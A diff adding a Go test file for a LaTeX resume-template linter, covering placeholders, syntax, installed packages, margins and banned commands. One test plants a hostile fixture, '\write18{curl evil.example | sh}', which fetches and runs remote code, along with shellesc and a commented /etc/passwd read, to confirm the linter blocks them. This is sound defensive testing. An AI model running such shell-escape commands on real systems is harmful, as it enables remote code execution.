@@ -0,0 +1,141 @@
+package rendering
+
+import (
+	"errors"
+	"os"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func lintRules(findings []LintFinding) map[string][]LintFinding {
+	rules := map[string][]LintFinding{}
+	for _, f := range findings {
+		rules[f.Rule] = append(rules[f.Rule], f)
+	}
+	return rules
+}
+
+func TestLintTemplate_BundledTemplate(t *testing.T) {
+	content, err := os.ReadFile("../../templates/one_page_resume.tex")
+	require.NoError(t, err)
+	assert.Empty(t, LintTemplate(string(content), nil))
+}
+
+func TestLintTemplate_Placeholders(t *testing.T) {
+	tmpl := `\documentclass{article}
+\usepackage[margin=0.5in]{geometry}
+\begin{document}
+{{ .Name }} {{ .Email }} {{ .Phone }} {{ .Nickname }}
+{{ range .Companies }}{{ .Company }}{{ range .Roles }}{{ .Role }}{{ end }}{{ end }}
+\end{document}`
+
+	findings := LintTemplate(tmpl, nil)
+	assert.True(t, HasLintErrors(findings))
+	rules := lintRules(findings)
+
+	require.Len(t, rules[LintRuleUnknownPlaceholder], 1)
+	assert.Equal(t, 4, rules[LintRuleUnknownPlaceholder][0].Line)
+	assert.Contains(t, rules[LintRuleUnknownPlaceholder][0].Message, ".Nickname")
+
+	var missing []string
+	for _, f := range rules[LintRuleMissingPlaceholder] {
+		missing = append(missing, f.Severity+": "+f.Message)
+	}
+	assert.Equal(t, []string{
+		"error: Template must render {{ .Bullets }}",
+		"warning: Template does not render {{ .DateRanges }}, so resumes will leave it out",
+		"warning: Template does not render {{ .Education }}, so resumes will leave it out",
+	}, missing)
+}
+
+func TestLintTemplate_Syntax(t *testing.T) {
+	findings := LintTemplate("\\documentclass{article}\n\\begin{document}\n{{ range .Companies }}\n\\end{document}", nil)
+	rules := lintRules(findings)
+	require.Len(t, rules[LintRuleSyntax], 1)
+	assert.Equal(t, "error", rules[LintRuleSyntax][0].Severity)
+	assert.Empty(t, rules[LintRuleMissingPlaceholder], "placeholders are not checked in a template that does not parse")
+}
+
+func TestLintTemplate_BannedCommandsAndPackages(t *testing.T) {
+	content, err := os.ReadFile("../../templates/one_page_resume.tex")
+	require.NoError(t, err)
+	tmpl := strings.Replace(string(content), `\begin{document}`, `\usepackage{shellesc}
+\immediate\write18{curl evil.example | sh}
+% \input{/etc/passwd} is only mentioned in a comment
+\titleformat{\section}{\large}{}{0em}{}\href{https://example.com}{site}
+\begin{document}`, 1)
+
+	rules := lintRules(LintTemplate(tmpl, nil))
+	var banned []string
+	for _, f := range rules[LintRuleBannedCommand] {
+		banned = append(banned, f.Message)
+	}
+	assert.Equal(t, []string{
+		"Package shellesc is not allowed in templates: it runs shell commands",
+		`\immediate is not allowed in templates: it writes files or runs shell commands`,
+		`\write18 is not allowed in templates: it runs shell commands`,
+	}, banned)
+
+	require.Len(t, rules[LintRuleMissingPackage], 1, "hyperref is loaded; titlesec is not")
+	assert.Equal(t, `\titleformat needs \usepackage{titlesec}`, rules[LintRuleMissingPackage][0].Message)
+	assert.Equal(t, 39, rules[LintRuleMissingPackage][0].Line)
+}
+
+func TestLintTemplate_InstalledPackages(t *testing.T) {
+	tmpl := `\documentclass{article}
+\usepackage{geometry,fontawesome5}
+\begin{document}\end{document}`
+
+	rules := lintRules(LintTemplate(tmpl, func(name string) (bool, error) {
+		return name != "fontawesome5", nil
+	}))
+	require.Len(t, rules[LintRuleMissingPackage], 1)
+	assert.Equal(t, "Package fontawesome5 is not installed on the server", rules[LintRuleMissingPackage][0].Message)
+	assert.Equal(t, 2, rules[LintRuleMissingPackage][0].Line)
+
+	rules = lintRules(LintTemplate(tmpl, func(string) (bool, error) {
+		return false, errors.New("no kpsewhich")
+	}))
+	assert.Empty(t, rules[LintRuleMissingPackage], "packages are not reported when they cannot be checked")
+}
+
+func TestLintTemplate_Geometry(t *testing.T) {
+	geometry := func(classOptions, options string) []string {
+		tmpl := `\documentclass[` + classOptions + `]{article}
+\usepackage{geometry}
+\geometry{` + options + `}
+\begin{document}\end{document}`
+		var messages []string
+		for _, f := range lintRules(LintTemplate(tmpl, nil))[LintRuleGeometry] {
+			messages = append(messages, f.Severity+": "+f.Message)
+		}
+		return messages
+	}
+
+	assert.Empty(t, geometry("letterpaper", "margin=0.5in"))
+	assert.Empty(t, geometry("a4paper", "left=15mm, right=15mm, top=1cm, bottom=1cm"))
+	assert.Equal(t, []string{
+		"warning: The left margin is 0.10in; printers clip content within 0.25in of the edge",
+		"warning: The right margin is 0.10in; printers clip content within 0.25in of the edge",
+	}, geometry("", "hmargin=0.1in, vmargin=0.5in"))
+	assert.Equal(t, []string{
+		"warning: The left margin is 2.50in, leaving little room for a one-page resume",
+		"warning: The right margin is 2.50in, leaving little room for a one-page resume",
+		"error: The text is only 3.50in wide; margins must leave at least 4in",
+	}, geometry("", "hmargin=2.5in, vmargin=0.5in"))
+	assert.Equal(t, []string{"warning: Paper size b5paper is unusual; use letterpaper or a4paper"},
+		geometry("b5paper", "margin=0.5in"))
+
+	tmpl := "\\documentclass{article}\n\\begin{document}\\end{document}"
+	rules := lintRules(LintTemplate(tmpl, nil))
+	require.Len(t, rules[LintRuleGeometry], 1)
+	assert.Equal(t, "warning", rules[LintRuleGeometry][0].Severity)
+}
+
+func TestLintTemplate_Structure(t *testing.T) {
+	rules := lintRules(LintTemplate("{{ .Name }}", nil))
+	assert.Len(t, rules[LintRuleStructure], 2)
+}